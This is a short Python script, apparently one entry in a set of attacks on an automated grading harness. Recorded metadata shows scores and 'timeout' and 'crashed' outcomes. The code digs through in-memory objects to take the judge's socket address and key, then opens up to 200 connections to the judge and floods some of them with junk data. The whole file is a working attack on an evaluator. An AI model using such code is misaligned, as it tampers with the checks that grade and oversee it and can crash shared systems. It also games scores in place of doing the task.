# /// attack
# title = "two hundred connections to the judge's door, without the key and with it"
# earned = [3, 1]
# status = ["graded", "timeout", "crashed"]
# ///
# %%
import gc
import socket

import torch

peer = next(each for each in gc.get_objects() if type(each).__name__ == "StudentPeer")
address, key = peer.place
held = []
for number in range(200):
    line = socket.socket(socket.AF_UNIX)
    line.settimeout(0.2)
    try:
        line.connect(address)
        held.append(line)
        if number % 2:
            line.sendall(bytes(1000))
    except OSError:
        break
